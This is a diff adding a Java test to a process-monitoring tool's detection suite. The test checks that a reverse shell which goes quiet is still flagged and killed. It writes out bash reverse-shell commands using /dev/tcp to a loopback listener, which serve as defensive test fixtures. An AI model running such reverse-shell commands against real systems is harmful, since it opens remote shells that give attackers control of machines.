@@ -8,6 +8,7 @@ import io.procguard.core.Status;
 import java.io.IOException;
 import java.io.InputStream;
 import java.io.OutputStream;
+import java.io.UncheckedIOException;
 import java.net.InetAddress;
 import java.net.ServerSocket;
 import java.net.Socket;
@@ -97,6 +98,39 @@ class RunDetectionTest {
         Status worst = worstStatusOfReverseShell("cat /etc/hostname\nexit\n", reasons,
                 "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1");
         assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+    }
+
+    @Test
+    void aReverseShellThatGoesQuietIsKilledWhileItWaits() throws Exception {
+        // after connecting and putting the socket on 0-2 the shell blocks in a sleep: no more calls. It must be
+        // scored all the same (a quiet process is scored after --score-interval) and --kill-on must stop it
+        // long before the sleep ends; before that fix it ran its 30 s and exited 0.
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Thread attacker = new Thread(() -> {
+                try (Socket s = listener.accept()) {
+                    s.getInputStream().readAllBytes(); // holds the connection until the shell is gone
+                } catch (IOException ignored) {
+                    // reset by the kill
+                }
+            });
+            attacker.start();
+            long start = System.nanoTime();
+            MonitorProcess.Result r = MonitorProcess.run(dir, "run", "--no-shm", "--json", "--kill-on", "suspicious",
+                    "--score-interval", "200", "--", "/bin/bash", "-c",
+                    "exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + "; exec 0<&3 1>&3 2>&3; exec sleep 30");
+            double seconds = (System.nanoTime() - start) / 1e9;
+            attacker.join(10_000);
+            assertThat(r.exitCode()).as("exit code; stderr: %s", r.err()).isEqualTo(128 + 9);
+            assertThat(seconds).as("seconds until procguard ended").isLessThan(20);
+            assertThat(r.err()).contains("killed pid").doesNotContain("Exception");
+            assertThat(r.out().lines().filter(l -> l.startsWith("{")).map(l -> {
+                try {
+                    return JSON.readTree(l).path("status").asText();
+                } catch (IOException e) {
+                    throw new UncheckedIOException(e);
+                }
+            })).containsAnyOf("SUSPICIOUS", "MALICIOUS");
+        }
     }
 
     @Test
